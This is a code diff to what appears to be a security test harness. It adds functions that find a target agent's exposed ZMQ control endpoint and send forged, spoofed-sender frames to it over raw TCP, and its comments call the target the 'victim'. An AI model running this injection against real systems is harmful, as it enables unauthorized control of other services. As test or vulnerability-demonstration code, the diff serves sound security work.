@@ -93,6 +93,23 @@ def session_of(meta):
     return struct.unpack_from("<Q", meta, caps_offset(meta, "session"))[0]
 
 
+def zmq_endpoint_of(meta):
+    """The ZMQ control endpoint (`tcp://host:port`) an agent with `bounce_control=zmq`
+    advertises in its capabilities: where anyone may connect and write frames."""
+    import re
+    m = re.search(rb"tcp://[0-9.]+:[0-9]+", meta)
+    assert m, "no ZMQ endpoint in this agent's metadata"
+    return m.group(0).decode()
+
+
+def stream_message(name, frame):
+    """`frame` sent under `name` over a ZMQ control connection: u16 name length, u32 frame
+    length, the name, the frame (proto/src/wire/stream.rs `encode`). The victim's socket is a
+    ZMQ_STREAM one, so a plain TCP connection reaches it: no ZMQ library needed."""
+    n = name.encode()
+    return struct.pack("<HI", len(n), len(frame)) + n + frame
+
+
 PUBLIC_MAGIC = b"NXBNCREG"
 
 
@@ -460,6 +477,15 @@ def main():
         end = time.monotonic() + cmd["seconds"]
         later = []  # (due, sender, frames)
         i = 0
+        # Over ZMQ (`zmq_to`: the victim's advertised endpoint), each sender's frames go on a
+        # TCP connection of its own, under its name, as any process could write them.
+        conns = {}
+        if cmd.get("zmq_to"):
+            import socket
+            host, port = cmd["zmq_to"][len("tcp://"):].rsplit(":", 1)
+            for name, sender in zip(cmd["agents"], senders):
+                c = socket.create_connection((host, int(port)), timeout=5)
+                conns[id(sender)] = (name, c)
 
         def send(sender, frames):
             nonlocal sent, errors
@@ -468,7 +494,11 @@ def main():
                     later.append((time.monotonic() + 0.02, sender, frames[k + 1:]))
                     return
                 try:
-                    sender.send_notif(cmd["to"], f)
+                    if conns:
+                        name, c = conns[id(sender)]
+                        c.sendall(stream_message(name, f))
+                    else:
+                        sender.send_notif(cmd["to"], f)
                     sent += 1
                 except Exception:
                     errors += 1
@@ -494,6 +524,8 @@ def main():
         while later:  # the rest of every group goes out (a forged group's real cancel)
             time.sleep(max(0.0, later[0][0] - time.monotonic()))
             send(*later.pop(0)[1:])
+        for _, c in conns.values():
+            c.close()
         return {"sent": sent, "send_errors": errors, "kinds": kinds, "forged": forged}
 
     nixlkit.serve({
